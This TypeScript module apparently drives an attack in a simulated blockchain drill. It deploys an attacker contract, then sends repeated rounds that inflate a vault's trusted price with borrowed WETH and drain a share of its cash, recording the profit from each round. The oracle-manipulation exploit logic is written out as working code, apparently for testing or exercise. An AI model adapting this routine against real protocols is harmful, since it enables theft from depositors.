/** The attack of the drill: the vault's trusted price is lifted with borrowed money, round after round. */
import { setTimeout as delay } from 'node:timers/promises'
import { type Address, encodeDeployData, type Hex, numberToHex, parseEther, toEventSelector } from 'viem'
import { BaseError } from '../base/Errors.ts'
import * as Rpc from './Rpc.ts'
import * as Sender from './Sender.ts'
import * as World from './World.ts'

export type Options = {
  readonly world: World.World
  /** How many transactions to try, each in a block of its own; 7 by default. */
  readonly rounds?: number | undefined
  /** What a round takes from the vault, in wei of WETH; 14 % of the cash found at the start by default. */
  readonly slice?: bigint | undefined
  /** What a round borrows to lift the price, in wei of WETH; 1,200 WETH by default. */
  readonly pump?: bigint | undefined
  /** Wei per gas; 15 gwei by default, above the honest traffic and well below one who is in a hurry. */
  readonly maxFeePerGas?: bigint | undefined
  /** Ends the attack before its next round. */
  readonly signal?: AbortSignal | undefined
  /** Called after each round. */
  readonly onRound?: ((round: Round) => void) | undefined
}

export type Round = {
  readonly hash: Hex
  /** Absent when the round was not mined in time. */
  readonly blockNumber?: bigint | undefined
  readonly status: 'success' | 'reverted' | 'missing'
  /** What the round brought the attacker, in wei of WETH, gas aside. */
  readonly profit: bigint
}

export type Report = {
  readonly contract: Address
  /** The transaction that deployed the attacker's contract, unless it was there already. */
  readonly deployment?: Hex | undefined
  readonly slice: bigint
  readonly rounds: readonly Round[]
  /** Wei of WETH, over all rounds. */
  readonly profit: bigint
}

const gwei = 10n ** 9n
/** Milliseconds between looks for a receipt, and how long to look. */
const glance = 20
const patience = 30_000

/**
 * Deploys the attacker's contract if it is not there, then sends one round after the other, each once the one before
 * is in a block. A round that reverts does not end it: the attacker tries as often as it set out to.
 *
 * Throws an `AttackError` when the contract cannot be deployed where the world expects it.
 *
 * @example
 * const { rounds, profit } = await Attack.run({ world, rounds: 7 })
 * rounds.map(({ status }) => status) // ['success', 'success', …]
 */
export async function run(options: Options): Promise<Report> {
  const { world, signal, onRound, pump = parseEther('1200'), maxFeePerGas = 15n * gwei } = options
  const sender = Sender.open(world.url, world.chainId, world.accounts)
  const deployment = await deploy(world, sender, maxFeePerGas)
  const slice = options.slice ?? (((await World.read(world, 'vault', 'cash')) as bigint) * 14n) / 100n
  const { address } = world.contracts.attack
  const data = World.encode(world, 'attack', 'round', [slice, pump])
  const rounds: Round[] = []
  while (rounds.length < (options.rounds ?? 7) && !signal?.aborted) {
    const [hash] = await Sender.sendAll(sender, [
      { from: 'attacker', to: address, data, gas: 1_500_000n, maxFeePerGas },
    ])
    const round = outcome(world, hash!, await receiptOf(world.url, hash!))
    rounds.push(round)
    onRound?.(round)
    if (round.status === 'missing') break
  }
  return { contract: address, deployment, slice, rounds, profit: rounds.reduce((sum, { profit }) => sum + profit, 0n) }
}

async function deploy(world: World.World, sender: Sender.Sender, maxFeePerGas: bigint): Promise<Hex | undefined> {
  const { address, abi } = world.contracts.attack
  if ((await Rpc.call(world.url, 'eth_getCode', [address, 'latest'])) !== '0x') return undefined
  const { vault, pairDollar } = world.contracts
  const data = encodeDeployData({ abi, bytecode: world.attackBytecode, args: [vault.address, pairDollar.address] })
  const [hash] = await Sender.sendAll(sender, [{ from: 'attacker', data, gas: 3_000_000n, maxFeePerGas }])
  const made = (await receiptOf(world.url, hash!))?.contractAddress
  if (made?.toLowerCase() === address.toLowerCase()) return hash
  throw new AttackError({ wanted: address, made: made ?? 'nothing', transaction: hash })
}

type Receipt = {
  readonly blockNumber: Hex
  readonly status: Hex
  readonly contractAddress: Address | null
  readonly logs: readonly { readonly address: Address; readonly topics: readonly Hex[]; readonly data: Hex }[]
}

async function receiptOf(url: string, hash: Hex): Promise<Receipt | undefined> {
  for (const deadline = performance.now() + patience; performance.now() < deadline; await delay(glance)) {
    const receipt = (await Rpc.call(url, 'eth_getTransactionReceipt', [hash])) as Receipt | null
    if (receipt) return receipt
  }
  return undefined
}

const transfer = toEventSelector('Transfer(address,address,uint256)')

function outcome({ contracts, accounts }: World.World, hash: Hex, receipt: Receipt | undefined): Round {
  if (!receipt) return { hash, status: 'missing', profit: 0n }
  const attacker = numberToHex(BigInt(accounts.attacker.address), { size: 32 })
  const profit = receipt.logs
    .filter(({ address }) => address.toLowerCase() === contracts.weth.address.toLowerCase())
    .filter(({ topics }) => topics[0] === transfer && topics[2] === attacker)
    .reduce((sum, { data }) => sum + BigInt(data), 0n)
  const status = receipt.status === '0x1' ? 'success' : 'reverted'
  return { hash, blockNumber: BigInt(receipt.blockNumber), status, profit }
}

/** The attacker's contract is not where the world expects it. */
export class AttackError extends BaseError {
  override readonly name = 'AttackError'
  constructor(facts: Record<string, unknown>) {
    super('The attack could not be prepared.', {
      remedy: 'operator',
      facts,
      advice: 'The attacker must not have sent anything before: its contract is expected at its first nonce.',
    })
  }
}
